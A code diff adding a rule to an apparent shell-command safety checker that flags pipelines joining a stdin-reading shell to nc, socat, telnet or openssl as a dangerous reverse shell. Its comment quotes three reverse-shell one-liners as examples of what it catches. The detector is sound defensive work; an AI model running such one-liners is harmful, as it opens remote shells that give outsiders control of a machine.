@@ -438,6 +438,30 @@ void JudgeNetworkSinkRules(Judge& judge, const CommandView& v) {
     judge.Add("reverse_shell", "shell or interpreter connected to a network socket",
               GuardTier::kDangerous);
   }
+  // A shell reading its program from stdin in a pipeline with a raw network connection (nc,
+  // socat, telnet, openssl s_client) before or after it: `cat /tmp/f | sh -i 2>&1 | nc h 1 >
+  // /tmp/f`, `telnet h 1 | sh | telnet h 2`, `telnet h 1 < /tmp/p | bash > /tmp/p`.
+  if ((v.traits & kTraitShell) != 0 && v.cmd != nullptr && v.script != nullptr &&
+      v.cmd->in_pipeline && !socket) {
+    bool reads_program = true;
+    for (const ShellWord* w : v.args) {
+      if (!IsOption(w->text) || ShortFlagsContain(w->text, 'c')) reads_program = false;
+    }
+    bool into_network = false;
+    for (const SimpleCommand& c : v.script->commands) {
+      if (!reads_program || into_network) break;
+      if (c.pipeline != v.cmd->pipeline || c.pipe_pos == v.cmd->pipe_pos) continue;
+      for (size_t i = 0; i < c.argv.size() && i < 8; ++i) {
+        const std::string_view b = Basename(c.argv[i].text);
+        into_network = into_network || (ProgramTraits(b) & kTraitSinkName) != 0 ||
+                       b == "telnet" || b == "openssl";
+      }
+    }
+    if (into_network) {
+      judge.Add("reverse_shell", "shell or interpreter connected to a network socket",
+                GuardTier::kDangerous);
+    }
+  }
   if ((v.traits & kTraitSinkName) == 0) {
     // no program-specific reverse-shell options
   } else if (n == "nc" || n == "ncat" || n == "netcat") {
